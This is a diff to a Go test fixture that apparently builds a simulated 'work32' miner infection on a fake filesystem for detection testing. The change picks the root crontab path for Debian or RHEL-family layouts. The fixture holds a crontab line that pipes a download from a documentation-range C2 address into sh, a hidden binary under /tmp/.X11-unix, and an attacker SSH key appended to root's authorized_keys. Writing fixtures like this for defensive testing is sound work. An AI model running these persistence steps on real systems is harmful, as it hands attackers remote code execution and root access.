@@ -168,8 +168,8 @@ var InfectionTime = time.Date(2025, 4, 27, 14, 46, 47, 0, time.UTC)
 // The attacker's addresses are documentation ranges: data, never a target.
 const c2 = "203.0.113.7"
 
-// Work32 adds a work32-style infection to base (a Debian-family tree): root
-// crontab lines that fetch and pipe to sh and that run a hidden binary in
+// Work32 adds a work32-style infection to base (Debian or Amazon Linux:
+// the root crontab goes where the base's cron keeps it): root crontab lines that fetch and pipe to sh and that run a hidden binary in
 // /tmp/.X11-unix (the crontab made immutable), the binary itself, an
 // attacker key appended to root's authorized_keys, and a download line in
 // the login user's .bashrc.
@@ -179,8 +179,12 @@ func Work32(base Tree, loginHome string) Tree {
 		"@daily /usr/bin/find /var/log/app -name '*.gz' -mtime +7 -delete\n" +
 		"* * * * * wget -q -O - http://" + c2 + "/y.sh | sh\n" +
 		"*/5 * * * * /tmp/.X11-unix/.work32 >/dev/null 2>&1\n"
+	crontab := "/var/spool/cron/crontabs/root" // Debian
+	if _, ok := base.Get("/var/spool/cron/crontabs"); !ok {
+		crontab = "/var/spool/cron/root" // RHEL, Amazon Linux
+	}
 	t := base.With(
-		Entry{Path: "/var/spool/cron/crontabs/root", Data: root, Mode: 0o600, Mtime: at, Immutable: true},
+		Entry{Path: crontab, Data: root, Mode: 0o600, Mtime: at, Immutable: true},
 		Entry{Path: "/tmp/.X11-unix/.work32", Data: FakeELF("work32 scanner"), Mode: 0o755, Mtime: at},
 	)
 	t = t.Append("/root/.ssh/authorized_keys", AuthorizedKey("attacker", "root@work32")+"\n", at)
